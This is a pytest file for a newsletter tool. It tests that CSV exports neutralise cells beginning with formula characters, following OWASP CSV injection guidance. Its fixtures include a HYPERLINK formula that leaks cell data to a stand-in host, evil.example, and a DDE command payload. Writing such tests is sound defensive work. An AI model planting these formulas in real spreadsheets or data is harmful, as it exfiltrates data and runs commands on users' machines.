"""Every CSV the tool writes opens in a spreadsheet as text: no cell starts a formula
(OWASP CSV injection: = + - @ tab CR), and our own exports read back to the same values."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy.orm import Session, sessionmaker
from web_support import make_issue

from newsletter import spreadsheets, stats, subscribers
from newsletter.config import Settings
from newsletter.models import Delivery, DeliveryStatus

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("O'Brien", "O'Brien"),
        ("'quoted'", "'quoted'"),
        ("plain", "plain"),
        ("", ""),
        (3, "3"),
    ],
)
def test_cells_are_neutralised_and_restored(value: object, cell: str) -> None:
    assert spreadsheets.neutralise(value) == cell
    assert spreadsheets.restore(cell) == str(value)


def test_deliveries_export_neutralises_names_and_server_replies(
    sessions: sessionmaker[Session], settings: Settings
) -> None:
    issue_id = make_issue(sessions, settings, "2026-W40", title="Story", sent=True)
    with sessions.begin() as s:
        sub = subscribers.add(s, "ada@example.com", name='=HYPERLINK("http://evil.example/?leak="&A2,"Click")')
        s.add(
            Delivery(
                issue_id=issue_id,
                subscriber_id=sub.id,
                status=DeliveryStatus.FAILED,
                attempts=1,
                last_reply="-550 =cmd|' /C calc'!A0",
                variant="news",
            )
        )
    out = io.StringIO()
    with sessions.begin() as s:
        assert stats.export_deliveries(s, settings, "2026-W40", out) == 1
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert [c for c in header + row if c.startswith(FORMULA_STARTS)] == []
    assert row[:2] == ["ada@example.com", '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")']
    assert "'-550 =cmd|' /C calc'!A0" in row
